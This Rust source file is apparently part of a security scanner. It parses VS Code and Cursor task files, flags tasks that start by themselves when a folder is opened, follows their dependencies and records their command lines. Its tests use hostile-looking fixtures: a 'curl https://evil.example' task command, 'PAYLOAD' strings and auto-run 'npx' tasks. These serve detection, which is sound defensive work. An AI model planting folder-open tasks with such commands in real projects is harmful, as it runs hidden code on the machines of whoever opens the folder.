//! Tasks of editors of the kind of VS Code.
//!
//! ```text
//! PROJECT/.vscode/tasks.json      {"version": "2.0.0", "tasks": [{"label": "build", "type": "shell", "command": "node",
//! PROJECT/x.code-workspace          "args": ["x.mjs"], "runOptions": {"runOn": "folderOpen"}}]}; of a workspace below "tasks"
//! Code/User/tasks.json            of every folder that is opened
//! ```
//!
//! A task with `runOn: folderOpen`, and what it depends on, starts when somebody opens the folder and trusts it; the others when somebody
//! asks for them. A hit proves that the task stands there; not that it ran. Documented in "Integrate with External Tools via Tasks" of
//! VS Code.

use std::collections::HashSet;

use crate::{
    interest::Interest,
    shell,
    surface::{
        Claim, CommandSource, Flaw, Meta, Opened, Shows, Sink, Surface,
        content::text,
        hook::{Hooks, When, shown},
        node::json::{self, Lines, Node, without_comments},
    },
};

const FILE: usize = 4 << 20;
/// Tasks of one file.
const MOST: usize = 1000;

/// `tasks.json`, `*.code-workspace`.
pub struct Tasks;

static META: Meta = Meta {
    id: "project/tasks",
    title: "tasks of VS Code and its kin, also those that start when a folder is opened",
    proves: "the task stands there; not that it ran",
};

impl Surface for Tasks {
    fn meta(&self) -> &'static Meta {
        &META
    }

    fn shows(&self) -> &'static [Shows] {
        &[Shows::Packages, Shows::Images, Shows::Network, Shows::Strings, Shows::Processes]
    }

    fn claims(&self, _: &Interest) -> Vec<Claim> {
        let tasks = [".vscode", ".cursor", "User"].map(|folder| Claim::name("tasks.json").in_tail(folder));
        tasks.into_iter().chain([Claim::suffix(".code-workspace")]).collect()
    }

    fn commands(&self) -> CommandSource {
        CommandSource::Configured
    }

    fn inspect(&self, file: &mut Opened<'_, '_>, out: &mut Sink<'_>) -> Result<(), Flaw> {
        let (path, interest) = (file.entry.path.clone(), file.interest);
        let text = text(file.all(FILE)?).into_owned();
        let plain = without_comments(&text);
        if plain.trim().is_empty() {
            return Ok(());
        }
        let value = json::whole(&plain).map_err(|error| json::flaw(&error, "list of tasks"))?;
        let inner = path.name().ends_with(b".code-workspace").then(|| value.get("tasks"));
        let Some(list) = inner.unwrap_or(Some(&value)) else { return Ok(()) };
        let mut hooks = Hooks::new(file, interest, out)?;
        // What is set up for every folder needs nobody's trust.
        let open = if path.parent().name() == b"User" { When::ByItself } else { When::InProject };
        let all = list.get("tasks").map(Node::items).unwrap_or_default();
        let starting = starting(all);
        let mut lines = Lines::new(&plain);
        for (number, task) in (1..).zip(all.iter().take(MOST)) {
            let label = label(task);
            let starts = runs_on_open(task) || starting.contains(label);
            let when = if starts { open } else { When::ByHand };
            let when_shown = if starts { ", which starts when the folder is opened" } else { "" };
            let what = format!("task {}{when_shown}", shown(label, number));
            let place = task.fields().iter().find(|(key, _)| key == "command").and_then(|(key, _)| lines.line_of(key));
            let folder = task.get("options").and_then(|options| options.text_of("cwd"));
            for form in [Some(task), task.get("linux"), task.get("osx"), task.get("windows")].into_iter().flatten() {
                if let Some(command) = command(form, task) {
                    hooks.command(&command, &what, place, when, folder);
                }
            }
        }
        hooks.finish()
    }
}

fn label<'t>(task: &'t Node<'_>) -> &'t str {
    ["label", "taskName"].iter().find_map(|key| task.text_of(key)).unwrap_or_default()
}

fn runs_on_open(task: &Node<'_>) -> bool {
    task.get("runOptions").and_then(|options| options.text_of("runOn")) == Some("folderOpen")
}

/// The tasks that those that start with the folder need, by name.
fn starting<'t>(all: &'t [Node<'_>]) -> HashSet<&'t str> {
    let mut found = HashSet::new();
    let mut open: Vec<&Node<'_>> = all.iter().filter(|task| runs_on_open(task)).collect();
    while let Some(task) = open.pop() {
        let needs = task.get("dependsOn");
        let names = needs.and_then(Node::text).into_iter();
        let names = names.chain(needs.map(Node::items).unwrap_or_default().iter().filter_map(Node::text));
        for name in names.take(MOST) {
            if found.len() < MOST && found.insert(name) {
                open.extend(all.iter().take(MOST).find(|task| label(task) == name));
            }
        }
    }
    found
}

/// A command line of a task, or of its form for one system, which has the words of the task where it says none.
fn command(form: &Node<'_>, task: &Node<'_>) -> Option<String> {
    let command = form.get("command").and_then(word)?;
    let arguments = form.get("args").or_else(|| task.get("args"));
    let arguments: Vec<&str> = arguments.map(Node::items).unwrap_or_default().iter().filter_map(word).collect();
    Some(if arguments.is_empty() { command.to_owned() } else { format!("{command} {}", shell::quoted(&arguments)) })
}

/// A text, or the value of one with its quotes: `{"value": "x", "quoting": "strong"}`.
fn word<'t>(node: &'t Node<'_>) -> Option<&'t str> {
    node.text().or_else(|| node.text_of("value"))
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::{
        fact::{Fact, TraceKind},
        surface::python::trial::tried,
    };

    fn said(path: &str, text: &str) -> (Vec<String>, bool) {
        let interest = Interest::with_traces(&[(TraceKind::Host, "evil.example"), (TraceKind::Text, "PAYLOAD")]);
        let tried = tried(&Tasks, path, text.as_bytes(), &interest);
        let words = |s: &crate::fact::Seen| {
            let line = s.origin.line.unwrap_or(0);
            match &s.fact {
                Fact::Trace(t) => format!("{:?}:{line}", t.held),
                Fact::Command(c) => format!("{} {}:{line}", c.tool, c.wanted[0].name),
                other => format!("{other:?}"),
            }
        };
        (tried.seen.iter().map(words).collect(), tried.flaw.is_some())
    }

    #[test]
    fn what_starts_with_the_folder_is_apart() {
        let open = r#""runOptions": {"runOn": "folderOpen"}"#;
        let text = format!(
            "{{ // of the team\n\"version\": \"2.0.0\", \"tasks\": [\n{{\"label\": \"a\", \"command\": \"node x PAYLOAD\", {open}}},\n\
             {{\"label\": \"b\", \"command\": \"node x PAYLOAD\"}},\n{{\"label\": \"c\", {open}, \"dependsOn\": [\"d\"]}},\n\
             {{\"label\": \"d\", \"type\": \"shell\", \"command\": {{\"value\": \"npx\"}}, \"args\": [\"-y\", \"x@1.0.0\"], \"dependsOn\": \"e\"}},\n\
             {{\"label\": \"e\", \"command\": \"x\", \"linux\": {{\"command\": \"curl https://evil.example\"}}}},]}}"
        );
        let expected = ["InProject:3", "Named:4", "npx x:6", "InProject:7"];
        assert_eq!(said("p/.vscode/tasks.json", &text), (expected.map(str::to_owned).to_vec(), false));
        assert_eq!(said("h/.config/Code/User/tasks.json", &text).0[0], "Starts:3");
        let workspace = format!("{{\"folders\": [], \"tasks\": {}}}", text.replace("{ // of the team", "{"));
        assert_eq!(said("p/x.code-workspace", &workspace).0.len(), 4);
    }

    #[test]
    fn other_settings_say_nothing_and_damage_is_a_gap() {
        for text in [
            "",
            "{}",
            "[]",
            r#"{"tasks":[{"label":"curl https://evil.example","detail":"PAYLOAD"}]}"#,
            r#"{"tasks":[{"command":"echo PAYLOAD","runOptions":{"runOn":"folderOpen"}}]}"#,
            r#"{"inputs":[{"command":"npx x@1.0.0"}],"tasks":7}"#,
        ] {
            assert_eq!(said("p/.vscode/tasks.json", text), (vec![], false), "{text}");
        }
        for text in ["{", "npx x", "{\"tasks\":[{\"command\":\"npx x@1.0.0\"}"] {
            assert!(said("p/.vscode/tasks.json", text).1, "{text}");
        }
        assert_eq!(said("p/x.code-workspace", r#"{"folders":[]}"#), (vec![], false));
    }

    #[test]
    fn tasks_that_need_each_other_end() {
        let task = |n: usize| {
            format!(
                r#"{{"label":"t{n}","command":"npx x{n}@1.0.0","runOptions":{{"runOn":"folderOpen"}},"dependsOn":["t{}","t0"]}}"#,
                n + 1
            )
        };
        let many: Vec<String> = (0..3000).map(task).collect();
        let (found, flaw) = said("p/.vscode/tasks.json", &format!(r#"{{"tasks":[{}]}}"#, many.join(",")));
        assert_eq!((found.len(), flaw), (1000, true));
    }
}
